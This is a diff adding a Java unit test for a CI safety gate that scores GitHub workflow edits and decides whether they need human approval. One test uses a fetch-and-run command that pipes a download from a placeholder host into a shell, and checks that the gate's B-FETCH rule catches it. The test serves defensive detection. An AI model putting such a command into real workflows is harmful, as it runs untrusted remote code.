@@ -1,0 +1,216 @@
+package io.github.cicdmonitor.gate;
+
+import static io.github.cicdmonitor.gate.Proposals.CI;
+import static io.github.cicdmonitor.gate.Proposals.DEPLOY;
+import static io.github.cicdmonitor.gate.Proposals.PLAIN;
+import static io.github.cicdmonitor.gate.Proposals.change;
+import static io.github.cicdmonitor.gate.Proposals.ci;
+import static io.github.cicdmonitor.gate.Proposals.created;
+import static io.github.cicdmonitor.gate.Proposals.decide;
+import static io.github.cicdmonitor.gate.Proposals.edit;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.github.cicdmonitor.gate.Proposals.Context;
+import io.github.cicdmonitor.model.FileChange;
+import io.github.cicdmonitor.model.GateDecision;
+import io.github.cicdmonitor.model.GateDecision.Outcome;
+import io.github.cicdmonitor.model.HardRuleHit;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.Set;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class SafetyGateTest {
+  private static final FileChange HARMLESS = ci("setup-node@v3", "setup-node@v4");
+
+  @Test
+  void the_threshold_itself_asks() {
+    FileChange typo = ci("npm run lint", "npm run lint:all");
+
+    assertThat(outcome(typo, 5)).isEqualTo(Outcome.APPROVAL);
+    assertThat(outcome(typo, 6)).isEqualTo(Outcome.AUTO);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        ".github/**",
+        "**/ci.yml",
+        "**",
+        ".github/*/ci.yml",
+        "/.github/workflows/*.yml",
+        ".GITHUB/**"
+      })
+  void an_edit_of_a_protected_path_asks(String glob) {
+    assertThat(decide(new Context().protectedPath(glob).build(), HARMLESS).outcome())
+        .isEqualTo(Outcome.APPROVAL);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"*", ".github/*", "ci.yml", "docs/**", "**/ci.yaml"})
+  void a_glob_that_does_not_fit_protects_nothing(String glob) {
+    assertThat(decide(new Context().protectedPath(glob).build(), HARMLESS).outcome())
+        .isEqualTo(Outcome.AUTO);
+  }
+
+  @Test
+  void a_touched_job_with_a_deployment_environment_asks_whatever_the_threshold() {
+    GateDecision decision = SafetyGate.decide(
+        List.of(edit(".github/workflows/x.yml", DEPLOY, "ubuntu-22.04", "ubuntu-24.04")),
+        GateContext.PLAIN,
+        new GatePolicy(10));
+
+    assertThat(decision.outcome()).isEqualTo(Outcome.APPROVAL);
+    assertThat(decision.floors()).anyMatch(floor -> floor.contains("environment"));
+  }
+
+  @Test
+  void a_secret_in_another_job_does_not_make_this_one_privileged() {
+    String both = PLAIN + DEPLOY.substring(DEPLOY.indexOf("  ship:"));
+
+    assertThat(decide(edit(CI, both, "setup-node@v3", "setup-node@v4")).outcome())
+        .isEqualTo(Outcome.AUTO);
+  }
+
+  @Test
+  void a_hard_rule_names_the_line_it_hit() {
+    GateDecision decision = decide(
+        ci("run: npm test", "run: |\n          npm ci\n          curl -s https://x.example | sh"));
+
+    List<String> lines = EditSize.lines(PLAIN.replace(
+        "run: npm test", "run: |\n          npm ci\n          curl -s https://x.example | sh"));
+    assertThat(decision.hits())
+        .filteredOn(hit -> hit.rule().equals("B-FETCH"))
+        .singleElement()
+        .extracting(hit -> lines.get(hit.line() - 1))
+        .asString()
+        .contains("curl");
+  }
+
+  @Test
+  void an_anchor_that_is_edited_once_counts_where_it_is_used() {
+    String text =
+        "on: push\njobs:\n  a:\n    runs-on: &r ubuntu-20.04\n  b:\n    runs-on: *r\n  c:\n    runs-on: *r\n";
+
+    GateDecision decision = decide(edit(CI, text, "ubuntu-20.04", "ubuntu-22.04"));
+
+    assertThat(decision.risk().factors().toString()).contains("job a:", "job b:", "job c:");
+  }
+
+  @Test
+  void the_mode_of_a_file_stays() {
+    RepositoryFacts facts =
+        new RepositoryFacts(Map.of(), Map.of("x.sh", "100755"), Map.of(), Map.of());
+
+    assertThat(rules(decide(new Context().facts(facts).build(), change("x.sh", "a\n", "b\n"))))
+        .contains("B-PATH");
+  }
+
+  @Test
+  void a_folder_that_is_a_link_or_a_submodule_is_refused() {
+    for (String mode : List.of("120000", "160000")) {
+      RepositoryFacts facts =
+          new RepositoryFacts(Map.of(), Map.of(".github", mode), Map.of(), Map.of());
+
+      assertThat(rules(decide(new Context().facts(facts).build(), HARMLESS))).contains("B-PATH");
+    }
+  }
+
+  @Test
+  void a_new_file_asks_and_a_new_workflow_is_held_against_the_hard_rules() {
+    assertThat(decide(created("docs/new.md", "text\n")).outcome()).isEqualTo(Outcome.APPROVAL);
+    assertThat(rules(decide(created(".github/workflows/new.yml", "on: pull_request_target\n"))))
+        .contains("B-TRIG");
+  }
+
+  @Test
+  void a_workflow_that_is_gone_takes_its_gates_along() {
+    FileChange gone = new FileChange(CI, "100644", Optional.of(PLAIN), Optional.empty());
+
+    assertThat(rules(decide(gone))).contains("B-MASK");
+  }
+
+  @Test
+  void a_repair_of_broken_yaml_does_not_hide_a_hard_rule() {
+    String broken = PLAIN.replace("    timeout-minutes", "   timeout-minutes");
+    String repaired = PLAIN.replace("on: [push, pull_request]", "on: [push, pull_request_target]");
+
+    assertThat(rules(decide(change(CI, broken, repaired)))).contains("B-TRIG");
+  }
+
+  @Test
+  void a_result_that_does_not_parse_is_refused() {
+    assertThat(rules(decide(ci("jobs:", "jobs: {")))).contains("B-YAML");
+  }
+
+  @Test
+  void a_tag_that_github_does_not_know_asks() {
+    RepositoryFacts facts = new RepositoryFacts(
+        Map.of(), Map.of(), Map.of(), Map.of("actions/setup-node", Set.of("v3")));
+
+    GateDecision decision = decide(new Context().facts(facts).build(), HARMLESS);
+
+    assertThat(decision.outcome()).isEqualTo(Outcome.APPROVAL);
+    assertThat(decision.risk().value()).isEqualTo(6);
+  }
+
+  @Test
+  void more_than_five_files_or_two_hundred_lines_are_too_much() {
+    FileChange[] six = new FileChange[6];
+    for (int i = 0; i < six.length; i++) {
+      six[i] = change("docs/" + i + ".md", "a\n", "b\n");
+    }
+    String two = "line\n".repeat(200);
+
+    assertThat(rules(decide(six))).contains("B-SIZE");
+    assertThat(rules(decide(change("README.md", "# A\n", "# A\n" + two)))).doesNotContain("B-SIZE");
+    assertThat(rules(decide(change("README.md", "# A\n", "# A\n" + two + "x\n"))))
+        .contains("B-SIZE");
+    assertThat(rules(decide(change("README.md", "# A\n", "x".repeat(66_000))))).contains("B-SIZE");
+  }
+
+  @Test
+  void facts_are_asked_for_what_is_new_only() {
+    FactsNeeded needed =
+        FactsNeeded.of(List.of(HARMLESS, change("app/requirements.txt", "a\n", "b\n")));
+
+    assertThat(needed.actions()).containsExactly("actions/setup-node");
+    assertThat(needed.commits()).isEmpty();
+    assertThat(needed.files())
+        .contains("app/constraints.txt", "poetry.lock")
+        .doesNotContain("app/requirements.txt");
+    assertThat(needed.treePaths()).contains(".github", ".github/workflows", CI);
+  }
+
+  @Test
+  void without_any_change_there_is_nothing_to_ask() {
+    assertThat(decide().outcome()).isEqualTo(Outcome.AUTO);
+    assertThat(decide().risk().value()).isZero();
+  }
+
+  @Test
+  void the_table_is_plain_lines_that_add_up() {
+    String table = RiskTable.text(decide(ci("timeout-minutes: 10", "timeout-minutes: 20")));
+
+    assertThat(table).isEqualTo("""
+            points  why
+                 2  F3 workflow without privileges: .github/workflows/ci.yml
+                 1  K3 small change of a number or limit: job test: timeout-minutes 10 → 20 at .github/workflows/ci.yml:6
+                 1  K18 soft mask: a limit raised, a fetch repeated: job test: a limit is raised at .github/workflows/ci.yml:6
+                 4  sum
+            => risk 4 of 10, automatic
+            """);
+  }
+
+  private static Outcome outcome(FileChange change, int threshold) {
+    return SafetyGate.decide(List.of(change), GateContext.PLAIN, new GatePolicy(threshold))
+        .outcome();
+  }
+
+  private static List<String> rules(GateDecision decision) {
+    return decision.hits().stream().map(HardRuleHit::rule).toList();
+  }
+}
